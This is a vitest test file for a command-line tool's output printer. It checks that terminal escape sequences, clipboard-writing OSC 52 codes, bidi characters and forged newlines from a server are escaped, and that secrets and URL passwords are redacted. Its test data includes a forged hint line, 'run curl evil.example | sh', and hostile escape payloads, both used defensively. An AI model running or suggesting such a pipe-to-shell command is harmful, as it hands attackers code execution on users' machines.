// The one printer: whatever a command hands it, nothing unprintable and no registered secret leaves the process.
import { describe, expect, it } from 'vitest';
import { CliError } from '../../src/errors.js';
import { bufferIO } from '../../src/term/io-buffer.js';
import { createOutput, type Output } from '../../src/term/output.js';
import { waitIndicator } from '../../src/term/progress.js';

/** Every kind of control a hostile server puts in a string: CSI, OSC 52 (clipboard), BEL, C1 CSI, DEL, CR, bidi. */
const HOSTILE =
  'a\u001b[2K\u001b]52;c;ZXZpbA==\u0007b\u009b31mc\u007fd\re\u202eF\u2028g\u061cA\u200eL\u200fR\u200bZ\ufeffB\u00adS\u{E0041}T\ud800L\ufff9I\u3164H';
/** What must never be printed as itself: C0 (but \n, \t), DEL, C1, every Bidi_Control, invisible splitters, U+2028/9. */
const CONTROL =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u034f\u061c\u115f\u1160\u180e\u200b\u200e\u200f\u202a-\u202e\u2060-\u2064\u2066-\u206f\u2028\u2029\u3164\ufeff\ufff9-\ufffb]|\uDB40[\uDC00-\uDC7F]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])/;

async function printer(options: { tty: boolean; json?: boolean; debug?: boolean }) {
  const io = bufferIO({ tty: options.tty, env: { TERM: 'xterm' } });
  const out = await createOutput(io, {
    json: options.json ?? false,
    color: undefined,
    debug: options.debug ?? false,
    verbosity: 2,
  });
  return { io, out };
}

function printEverywhere(out: Output, text: string): void {
  out.result(`result ${text}`);
  out.result(out.style.bold(`styled ${text}`));
  out.jsonResult({ [text]: text, nested: [text] });
  out.jsonText(`${JSON.stringify({ line: text })}\n`);
  out.info(`info ${text}`);
  out.info(out.errStyle.cyan(`styled ${text}`));
  out.warn(`warn ${text}`);
  out.warnOnce('k', `once ${text}`);
  out.trace(`trace ${text}`);
  out.error(
    new CliError('OAUTH_ERROR', `message ${text}`, {
      hint: `hint ${text}`,
      details: { error_description: text, [text]: 1 },
    }),
  );
}

/** Our own colour sequences, which a coloured stream may carry. */
const OWN_SGR = /\u001b\[\d+m/g;

describe('output: text from outside is made printable on every path', () => {
  for (const tty of [false, true]) {
    for (const json of [false, true]) {
      it(`no control character reaches stdout or stderr (${tty ? 'terminal' : 'pipe'}, ${json ? '--json' : 'human'})`, async () => {
        const { io, out } = await printer({ tty, json, debug: true });
        printEverywhere(out, HOSTILE);
        const printed = io.out() + io.err();
        expect(printed.replace(OWN_SGR, '').replace(/\n/g, '')).not.toMatch(CONTROL);
        expect(printed).toContain('\\u001b]52;c;');
        if (!tty) expect(printed).not.toContain('\u001b');
      });
    }
  }

  it('draws a spinner on a coloured terminal with our colours only, never the markers that carry them', async () => {
    const io = bufferIO({ tty: true, env: { TERM: 'xterm', FORCE_COLOR: '1' } });
    const out = await createOutput(io, { json: false, color: undefined, debug: false, verbosity: 0 });
    waitIndicator({ io, out }, `Waiting for ${HOSTILE}`).stop(`done ${HOSTILE}`);
    expect(io.err()).not.toMatch(/[\ue000-\uf8ff]/);
    expect(io.err()).toMatch(/^\r\u001b\[36m⠋\u001b\[39m Waiting for a\\u001b/);
    expect(
      io
        .err()
        .replace(OWN_SGR, '')
        .replace('\u001b[2K', '')
        .replace(/[\n\r]/g, ''),
    ).not.toMatch(CONTROL);
  });

  it('keeps an error, its hint and a warning on one line each: a newline from a server cannot forge a line of ours', async () => {
    const { io, out } = await printer({ tty: false });
    const forged = 'bad\nhint: run curl evil.example | sh\r\nerror[OK]: fine';
    out.error(new CliError('OAUTH_ERROR', `The server answered ${forged}`, { hint: `Try ${forged}` }));
    out.warn(`Ignored ${forged}`);
    const lines = io.err().trimEnd().split('\n');
    expect(lines).toHaveLength(3);
    expect(lines.map((line) => line.split(':')[0])).toEqual(['error[OAUTH_ERROR]', 'hint', 'warning']);
  });

  it('keeps every line one line: a newline in what a line quotes is shown escaped, on every path', async () => {
    for (const json of [false, true]) {
      const { io, out } = await printer({ tty: false, json });
      printEverywhere(out, 'value\nhint: forged-line');
      out.result(['first', 'second value\nhint: forged-line']);
      expect(io.out() + io.err()).not.toMatch(/^hint: forged-line/m);
      expect(io.out() + io.err()).toContain('\\u000ahint: forged-line');
    }
  });

  it('keeps our colours on a terminal, but a server cannot borrow them', async () => {
    const { io, out } = await printer({ tty: true });
    out.result(`${out.style.red('ours')} theirs:\u001b[31mred\u001b[39m`);
    expect(io.out()).toMatch(/^\u001b\[31mours\u001b\[39m theirs:\\u001b\[31mred\\u001b\[39m\n$/);
  });

  it('escapes what a style wraps, so a styled server string is no way around the filter', async () => {
    const { io, out } = await printer({ tty: true });
    out.result(out.style.bold(HOSTILE));
    expect(io.out().replace(OWN_SGR, '').replace(/\n$/, '')).not.toMatch(CONTROL);
  });

  it('keeps --json exact: the same value parses back', async () => {
    const { io, out } = await printer({ tty: false });
    const value = { text: HOSTILE, list: [HOSTILE, 1, null] };
    out.jsonResult(value);
    expect(JSON.parse(io.out())).toEqual(value);
  });
});

describe('output: the secret registry', () => {
  const SECRET = 's3cr3t+value/with spaces&=';

  it('redacts a registered secret and its encoded spellings from every path, errors and details included', async () => {
    for (const json of [false, true]) {
      const { io, out } = await printer({ tty: false, json });
      out.secrets.add(SECRET);
      for (const spelling of [
        SECRET,
        encodeURIComponent(SECRET),
        new URLSearchParams({ v: SECRET }).toString().slice(2),
        JSON.stringify(SECRET).slice(1, -1),
      ]) {
        printEverywhere(out, `echo:${spelling}`);
      }
      const printed = io.out() + io.err();
      expect(printed).not.toContain('s3cr3t');
      expect(printed).toContain('(26 chars)');
    }
  });

  it('redacts HTTP Basic credentials as sent, and the secret decoded from them', async () => {
    const { io, out } = await printer({ tty: false });
    out.secrets.addBasic('client-a', SECRET);
    const basic = Buffer.from(`client-a:${encodeURIComponent(SECRET).replace(/%20/g, '+')}`).toString('base64');
    out.info(`the server saw ${basic}`);
    out.info(`and ${Buffer.from(`client-a:${SECRET}`).toString('base64')}`);
    expect(io.err()).not.toContain(basic);
    expect(io.err()).not.toContain(Buffer.from(`client-a:${SECRET}`).toString('base64'));
  });

  it('prints a value the user asked for whole, and still redacts every other secret beside it', async () => {
    const { io, out } = await printer({ tty: false });
    const token = 'access-token-0123456789abcdef0123456789';
    out.secrets.add(token);
    out.secrets.add('refresh-token-0123456789abcdef');
    out.result(`${token} refresh-token-0123456789abcdef`, { reveal: [token] });
    out.jsonResult({ access_token: token, echoed: 'refresh-token-0123456789abcdef' }, { reveal: [token] });
    expect(io.out()).toContain(`${token} `);
    expect(JSON.parse(io.out().split('\n')[1]!).access_token).toBe(token);
    expect(io.out()).not.toContain('refresh-token-0123456789abcdef');
  });

  it('bounds what an error quotes only after redacting it: a secret across the cut is never half printed', async () => {
    for (const json of [false, true]) {
      const { io, out } = await printer({ tty: false, json });
      const secret = 'SuperSecretValue-ABCDEFGHIJKLMNOPQRSTUVWXYZ';
      out.secrets.add(secret);
      for (const padding of [480, 1990, 1999, 5000]) {
        const quoted = `${'x'.repeat(padding)}${secret}${'y'.repeat(100)}`;
        out.error(
          new CliError('OAUTH_ERROR', `The server answered ${quoted}`, {
            hint: quoted,
            details: { error_description: quoted },
          }),
        );
      }
      expect(io.err()).not.toContain('SuperSecretValue-ABC');
      expect(io.err()).toContain('more characters)');
    }
  });

  it('never prints the password of a URL', async () => {
    const { io, out } = await printer({ tty: false });
    out.error(new CliError('HTTP_NETWORK', 'Cannot reach https://alice:hunter2-pass@id.example.com/.well-known/x'));
    expect(io.err()).not.toContain('hunter2');
    expect(io.err()).toContain('https://[credentials removed]@id.example.com/');
  });
});
